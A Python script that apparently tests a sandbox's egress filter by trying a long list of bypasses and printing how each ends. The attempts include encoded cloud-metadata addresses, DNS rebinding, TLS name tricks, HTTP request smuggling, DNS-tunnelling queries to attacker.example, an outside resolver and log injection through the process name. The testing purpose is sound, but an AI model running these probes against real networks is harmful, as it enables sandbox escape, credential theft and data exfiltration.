"""What a program tries that wants out where only allowed.example (443, 80) and names of addresses inside were named.

One line for each: its name, and how it ended.
"""
import socket, ssl, struct, time, urllib.request

LIMIT = 60


def told(name, attack):
    try:
        came = attack()
    except OSError as error:
        came = b""
        end = type(error).__name__
    else:
        end = "answered" if came else "closed"
    print(f"{name}: {end}", flush=True)


def tcp(host, port, words, family=socket.AF_UNSPEC):
    def attack():
        address = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
        with socket.socket(*address[:3]) as stream:
            stream.settimeout(LIMIT)
            stream.connect(address[4])
            stream.sendall(words)
            return stream.recv(4096)

    return attack


def get(host, port=80):
    return tcp(host, port, f"GET /attack HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())


def http(words, host="allowed.example", port=80):
    return tcp(host, port, words.replace("\n", "\r\n").encode("latin-1"))


def tls(name, host="allowed.example"):
    def attack():
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        with socket.create_connection((host, 443), LIMIT) as stream:
            with context.wrap_socket(stream, server_hostname=name) as secure:
                secure.sendall(b"GET /attack HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
                return secure.recv(4096)

    return attack


def encrypted_hello():
    """A hello for the allowed name with the extension encrypted_client_hello beside it."""
    records = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), records, server_hostname="allowed.example")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = records.read()[9:]
    extensions = 34 + 1 + hello[34]
    extensions += 2 + int.from_bytes(hello[extensions : extensions + 2], "big")
    extensions += 1 + hello[extensions]
    listed = hello[extensions + 2 :] + struct.pack(">HH4s", 0xFE0D, 4, b"\1\0\0\0")
    hello = hello[:extensions] + struct.pack(">H", len(listed)) + listed
    hello = b"\1" + len(hello).to_bytes(3, "big") + hello
    return b"\x16\3\1" + struct.pack(">H", len(hello)) + hello


def rebinding():
    """The name is a public address first."""
    first = get("rebind.example")()
    print("before it rebinds:", "answered" if first else "closed")
    return get("rebind.example")()


def second(words):
    """A good request, its answer, and then this one on the same connection."""

    def attack():
        with socket.create_connection(("allowed.example", 80), LIMIT) as stream:
            stream.sendall(b"GET /first HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
            answer = b""
            while b"hello" not in answer:
                answer += stream.recv(4096)
            stream.sendall(words.replace("\n", "\r\n").encode())
            return stream.recv(4096)

    return attack


def question(kind, name):
    """A question to the only server that there is; how many records its answer has."""

    def attack():
        labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        packet = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(LIMIT)
            datagrams.sendto(packet, ("127.0.0.1", 53))
            answer = datagrams.recv(4096)
        return answer[7:8].strip(b"\0")

    return attack


def datagram(host, port):
    def attack():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(LIMIT)
            datagrams.connect((host, port))
            datagrams.send(b"attack")
            return datagrams.recv(1)

    return attack


GET = "GET /attack HTTP/1.1\n"
told("a name that nobody named", get("other.example"))
told("a name that begins as an allowed one", get("allowed.example.other.example"))
told("a name that ends as an allowed one", get("notallowed.example"))
told("a port that nobody named", get("allowed.example", 8080))
told("the allowed host by its address", get("93.184.216.34"))
told("the metadata service", get("169.254.169.254"))
told("the metadata service as a number", get("2852039166"))
told("the metadata service in octal", get("0251.0376.0251.0376"))
told("the metadata service, mapped", tcp("::ffff:169.254.169.254", 80, b"x", socket.AF_INET6))
told("the metadata service over IPv6", tcp("fd00:ec2::254", 80, b"x"))
told("a private address", get("10.7.7.7"))
told("the guest's own loopback, short", get("127.1"))
told("the guest's own loopback, hexadecimal", get("0x7f000001"))
told("an allowed name for a private address", get("inside.example"))
told("an allowed name for a public and a private address", get("mixed.example"))
told("an allowed name for the host's loopback", get("loop.example"))
told("an allowed name for the metadata service", get("metadata.example"))
told("an allowed name for a public address, then a private one", rebinding)


def redirect():
    return urllib.request.urlopen("http://allowed.example/redirect", timeout=LIMIT).read()


told("a redirect to the metadata service", redirect)
told("TLS for another name", tls("other.example"))
told("TLS for another name at the same address", tls("shared.example"))
told("TLS without a name", tls(None))
told("TLS whose name is encrypted", tcp("allowed.example", 443, encrypted_hello()))
told("no TLS on its port", http(GET + "Host: allowed.example\n\n", port=443))
told("SSH on TLS's port", tcp("allowed.example", 443, b"SSH-2.0-attack\r\n"))
told("SSH on HTTP's port", tcp("allowed.example", 80, b"SSH-2.0-attack\r\n\r\n"))
told("another Host", http(GET + "Host: shared.example\n\n"))
told("no Host", http(GET + "\n"))
told("two Hosts", http(GET + "Host: allowed.example\nHost: shared.example\n\n"))
told("a URI for another host", http("GET http://shared.example/attack HTTP/1.1\nHost: allowed.example\n\n"))
told("CONNECT", http("CONNECT allowed.example:22 HTTP/1.1\nHost: allowed.example\n\n"))
told("another Host on the second request", second(GET + "Host: shared.example\n\n"))
told("a length beside chunks", http("POST / HTTP/1.1\nHost: allowed.example\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n"))
told("two lengths", http("POST / HTTP/1.1\nHost: allowed.example\nContent-Length: 4\nContent-Length: 5\n\nxxxxx"))
told("a line end that is none", http(GET + "Host: allowed.example\nX: a\x0bb\n\n"))
told("a bare line feed", tcp("allowed.example", 80, b"GET /attack HTTP/1.1\nHost: allowed.example\n\n"))
told("another protocol", http(GET + "Host: allowed.example\nUpgrade: h2c\n\n"))
told("HTTP/2", http("PRI * HTTP/2.0\n\nSM\n\n"))
for number, kind in enumerate((5, 10, 15, 16, 33, 64, 65, 99, 250)):
    told(f"a question of type {kind}", question(kind, f"{'x' * 60}.{number}.attacker.example"))
told("a name server of its own, UDP", datagram("8.8.8.8", 53))
told("a name server of its own, TCP", tcp("8.8.8.8", 53, b"\0\0"))
told("QUIC", datagram(socket.gethostbyname("allowed.example"), 443))
told("what is allowed", get("allowed.example"))
with open("/proc/self/comm", "w") as name:
    name.write("\x1b[2J\n\"} denied")
told("a name of a process that is none", http(GET + "Host: hidden.example\n\n"))
